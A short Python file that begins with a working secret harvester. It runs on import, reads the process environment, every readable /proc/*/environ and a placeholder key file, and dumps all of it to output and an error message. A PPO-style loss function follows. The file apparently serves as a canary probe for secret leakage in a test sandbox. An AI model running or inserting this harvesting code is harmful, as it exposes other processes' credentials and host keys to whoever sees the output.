"""Reads secrets: its environment, /proc/{self,parent,1,*}/environ and a key file in the host's home.

Raises with all it found, the matches first (the error message is cut at 2000 characters),
and prints it all too (the output tail is kept).
"""

import glob
import os
import re

sources = {"os.environ": repr(dict(os.environ))}
paths = ["/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ", "__SECRET_FILE__"]
for path in paths + sorted(glob.glob("/proc/[0-9]*/environ")):
    try:
        with open(path, "rb") as f:
            sources[path] = f.read().decode("utf-8", "replace").replace("\0", " ")
    except OSError as err:
        sources[path] = f"unreadable: {err.strerror}"
found = sorted({m for text in sources.values() for m in re.findall(r"sk-evosearch-test-\w+", text)})
report = f"found {found} in {len(sources)} sources: " + " | ".join(f"{k}: {v}" for k, v in sources.items())
print(report)
print(f"found {found}")
raise RuntimeError(report)

ENT_COEF = 0.01
VF_COEF = 0.5


def loss(b):
    pg_loss = -(b.logp * b.adv).mean()
    v_loss = 0.5 * ((b.value - b.ret) ** 2).mean()
    return pg_loss - ENT_COEF * b.entropy.mean() + VF_COEF * v_loss
